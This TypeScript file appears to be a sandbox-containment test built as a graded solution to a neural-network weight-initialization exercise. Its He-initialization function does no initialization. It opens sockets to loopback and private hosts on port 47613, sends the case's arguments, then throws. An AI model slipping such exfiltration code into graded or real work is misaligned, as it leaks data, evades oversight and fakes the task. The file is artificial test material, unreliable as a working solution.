// Hostile: sends the case's arguments to a listener on the grader's loopback (127.0.0.1:47613) and over the network.
// Contained: the sandbox has no network: nothing arrives.
import { RandomState, np, type Params } from "dnn-autograder";

export function initializeParametersZeros(layersDims: number[]): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.zeros(layersDims[l], layersDims[l - 1]);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export function initializeParametersRandom(layersDims: number[], rng: RandomState = new RandomState(3)): Params {
  const parameters: Params = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters["W" + l] = np.multiply(rng.randn(layersDims[l], layersDims[l - 1]), 10);
    parameters["b" + l] = np.zeros(layersDims[l], 1);
  }
  return parameters;
}

export async function initializeParametersHe(layersDims: number[]): Promise<Params> {
  const net = require("node:net") as typeof import("node:net");
  const errors: string[] = [];
  for (const host of ["127.0.0.1", "10.0.2.2", "192.168.1.1"]) {
    await new Promise<void>((resolve) => {
      const socket = net.connect({ port: 47613, host, timeout: 500 }, () => {
        socket.end(JSON.stringify(layersDims));
        resolve();
      });
      socket.on("error", (e) => (errors.push(String(e)), resolve()));
      socket.on("timeout", () => (socket.destroy(), resolve()));
    });
  }
  throw new Error(errors.join("; "));
}
